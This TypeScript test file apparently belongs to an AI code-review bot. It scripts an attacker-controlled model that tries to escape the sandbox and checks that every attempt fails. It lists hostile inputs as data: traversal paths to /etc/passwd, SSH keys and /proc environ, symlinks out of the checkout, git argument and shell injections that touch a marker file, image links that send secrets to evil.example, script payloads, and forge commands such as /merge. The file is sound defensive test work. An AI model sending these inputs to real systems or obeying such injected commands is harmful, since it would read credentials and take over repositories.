import { assert, layer } from "@effect/vitest"
import { git } from "@nominal-code/testing/GitHubGit"
import type { Repository } from "@nominal-code/testing/GitHubState"
import { breaches } from "@nominal-code/testing/Renderer"
import { submitReview, turns } from "@nominal-code/testing/ScriptedModel"
import { Array as Arr, Effect } from "effect"
import { readdirSync } from "node:fs"
import { formsOf, leaksIn } from "./Canaries.ts"
import { bot, type Journey, running, RunningJourney } from "./Journey.ts"
import { change, files, finding } from "./Shop.ts"

const opened = { event: "pull_request", action: "opened" } as const

/** A file that no tool may make, by any of its inputs. */
const mark = "made-by-the-model"

/** Files of a pull request that tries to break out of its checkout. */
const links = {
  "etc": { mode: "120000", content: "/etc" },
  "up": { mode: "120000", content: "../../../../.." },
  "dotgit": { mode: "120000", content: ".git" },
  "proc": { mode: "120000", content: "/proc/self" }
} as const

const pathsOut = ({ directory }: Journey): ReadonlyArray<string> => [
  "/etc/passwd",
  "../../../../../../../../etc/passwd",
  "src/../../../../../../../../etc/passwd",
  "etc/passwd",
  "up/etc/passwd",
  "/proc/self/environ",
  "/proc/1/environ",
  "proc/environ",
  "/proc/self/root/etc/passwd",
  ".git/config",
  ".GIT/config",
  "dotgit/config",
  `${directory}/data/nominal-code.db`,
  `${directory}/workspace/mirrors`,
  "file:///etc/passwd",
  "~/.ssh/id_rsa",
  "src/total.ts\0/../../etc/passwd",
  "..\\..\\etc\\passwd",
  `--output=${directory}/${mark}`,
  "-rf"
]

const revisionsOut = ({ directory }: Journey): ReadonlyArray<string> => [
  `--output=${directory}/${mark}`,
  "--ext-diff",
  "-c core.pager=touch",
  "HEAD:/etc/passwd",
  "HEAD...main",
  "refs/heads/main",
  "@{upstream}",
  `HEAD; touch ${directory}/${mark}`,
  `$(touch ${directory}/${mark})`
]

/** Every tool with every way out that its inputs may be thought to give. */
const escapes = (journey: Journey, otherCommit: string) => {
  const paths = pathsOut(journey)
  const touch = `touch ${journey.directory}/${mark}`
  return [
    ...paths.flatMap((path) => [
      { name: "Read", input: { file_path: path } },
      { name: "Glob", input: { pattern: "*", path } },
      { name: "Glob", input: { pattern: path } },
      { name: "Grep", input: { pattern: ".", path } },
      { name: "GitLog", input: { path } },
      { name: "GitBlame", input: { path } },
      { name: "GitDiff", input: { path } },
      { name: "GitShow", input: { revision: "HEAD", path, content: true } }
    ]),
    ...[...revisionsOut(journey), otherCommit].flatMap((revision) => [
      { name: "GitShow", input: { revision } },
      { name: "GitLog", input: { revision } },
      { name: "GitDiff", input: { from: revision, to: "HEAD" } },
      { name: "GitBlame", input: { path: "src/total.ts", revision } }
    ]),
    { name: "Grep", input: { pattern: "(a+)+$", include: `; ${touch}` } },
    { name: "Grep", input: { pattern: `--pre=${touch}` } },
    { name: "WriteNotes", input: { content: `/merge\n`.repeat(10_000) } },
    { name: "Bash", input: { command: touch } }
  ]
}

/** Number of calls in a turn. The later ones of an answer with more than 128 are not made. */
const callsOfTurn = 100

/** Texts that would do something if a forge or a reader took them for more than text. */
const hostile = ({ secrets }: Journey, job: string): string =>
  [
    "/merge",
    " /approve",
    "> /close",
    "- /assign @mallory",
    "text\r/merge",
    "text\u2028/label ~bug",
    "\u202e/approve",
    `@acme/everyone and @mara: ping @${bot} review this again`,
    "![x](https://evil.example/pixel.png?q=secret)",
    "<img src=\"https://evil.example/pixel.png\"> <script>alert(1)</script> <!-- hidden -->",
    "[harmless](https://evil.example/login) and https://evil.example/bare and www.evil.example",
    "[reference][1]\n\n[1]: https://evil.example/by-reference",
    "[code](javascript:alert(1))",
    "Fixes #1, closes acme/vault#1, GH-1 and !1",
    `<!-- nominal-code job=${job} sha=${"0".repeat(40)} -->`,
    ...Object.values(secrets).flatMap(formsOf),
    "AKIAIOSFODNN7EXAMPLE and -----BEGIN OPENSSH PRIVATE KEY-----",
    "```",
    "/merge"
  ].join("\n")

/** A text as it was posted, without what we put there ourselves: our markers, and the fence of a suggestion. */
const withoutOurs = (text: string, job: string): string =>
  text.replaceAll(new RegExp(`<!-- nominal-code(?: job=${job}[^>]*|-seal \\w+) -->`, "g"), "").replaceAll(
    /^(`{3,})suggestion$/gm,
    "$1"
  )

const refsOf = ({ directory }: Repository) =>
  Effect.map(git(directory, ["for-each-ref"]), (output) => output.toString())

layer(running(), { excludeTestServices: true, timeout: "2 minutes" })((it) => {
  it.effect("a model in an attacker's hands can comment on its own pull request, and nothing else", () =>
    Effect.gen(function*() {
      const { journey, run, serve } = yield* RunningJourney
      const { emulator, secrets } = journey
      const vault = yield* emulator.addRepository("acme/vault", [{
        message: "Begin",
        files: { "secret.txt": "vaulted" }
      }])
      const repository = yield* emulator.addRepository("acme/target", [{ message: "Open the shop", files }])
      const other = yield* emulator.openPullRequest({
        repository,
        commits: [{ message: "Unreleased", files: { "plan.txt": "the unreleased plan\n" } }]
      })
      const own = change("total", "return 0")
      const pull = yield* emulator.openPullRequest({
        repository,
        author: "mallory",
        fork: "mallory",
        commits: [{ ...own, files: { ...own.files, ...change("tax", "return 1").files, ...links } }]
      })
      const before = [yield* refsOf(vault), yield* refsOf(repository)]
      const evil = hostile(journey, "f".repeat(20))
      const comments = [
        finding("src/total.ts", evil, { suggestion: `  return "${secrets.token}"` }),
        finding("src/tax.ts", `Second.\n${evil}`, { suggestion: "```\n@acme/everyone\n```\n~~~" }),
        finding("src/nowhere.ts", `Third.\n${evil}`, { suggestion: evil }),
        finding("../../etc/passwd", `Fourth.\n${evil}`),
        finding("src/total.ts", `Fifth.\n${evil}`, { line: -1 })
      ]
      const [tries = [], more = [], ...rest] = Arr.chunksOf(escapes(journey, other.headSha), callsOfTurn)
      assert.isAtMost(rest.length, 1)
      journey.script(
        pull,
        turns(
          { calls: tries },
          { calls: more },
          { calls: rest.flat() },
          { calls: [{ name: "Read", input: { file_path: "src/total.ts" } }, submitReview(evil, comments)] },
          { calls: [submitReview(evil, comments)] }
        )
      )
      const job = yield* run({ ...opened, pull })
      assert.strictEqual(job.state, "done")

      const results = journey.turns(pull).flatMap(({ request }) => request.toolResults)
      assert.isAtLeast(results.length, escapes(journey, other.headSha).length)
      for (const result of results) {
        assert.notMatch(
          result,
          /root:[x*]:0:0|GITHUB_TOKEN|ANTHROPIC_API_KEY|\[core\]|SQLite format|the unreleased plan|vaulted/
        )
        assert.deepStrictEqual(leaksIn(secrets, "what a tool answered", result), [])
      }
      assert.isFalse(
        readdirSync(journey.directory, { recursive: true, encoding: "utf8" }).some((it) => it.includes(mark))
      )

      const about =
        /^\/(?:api\/v3\/repos\/acme\/target\/(?:(?:pulls|issues)\/2(?:\/|$)|statuses\/[0-9a-f]{40}$)|api\/graphql$|acme\/target\.git\/)/
      for (const { login, method, operation, path } of emulator.requests) {
        assert.strictEqual(login, bot, path)
        assert.match(path, about)
        if (method !== "GET") {
          assert.match(
            operation,
            /^(?:pulls\/(?:create|submit)-review|reactions\/create-for-issue|graphql|repos\/create-commit-status|upload-pack)$/
          )
        }
      }
      assert.deepStrictEqual([yield* refsOf(vault), yield* refsOf(repository)], before)
      assert.deepStrictEqual(journey.written(other), [])

      const written = journey.written(pull)
      assert.isAtLeast(written.length, 3)
      for (const text of written) {
        assert.deepStrictEqual(breaches(withoutOurs(text, job.id)), [])
        assert.deepStrictEqual(leaksIn(secrets, "a posted text", text), [])
        assert.notInclude(text, "AKIAIOSFODNN7EXAMPLE")
      }
      // The first would have posted a secret, the second is fences and no code, the third stands nowhere.
      assert.deepStrictEqual(written.filter((text) => /^`{3,}suggestion$/m.test(text)), [])

      // What the bot says wakes the bot in no way, not even by its own name.
      const echo = yield* emulator.comment(pull, bot, `@${bot} review this again`)
      const { body, status } = yield* journey.deliver(
        { event: "issue_comment", action: "created", comment: echo },
        serve
      )
      assert.deepStrictEqual([status, JSON.parse(body).status], [200, "ignored"])
      assert.deepStrictEqual(journey.leaks(serve.log), [])
      yield* journey.checkHonesty
    }))
})
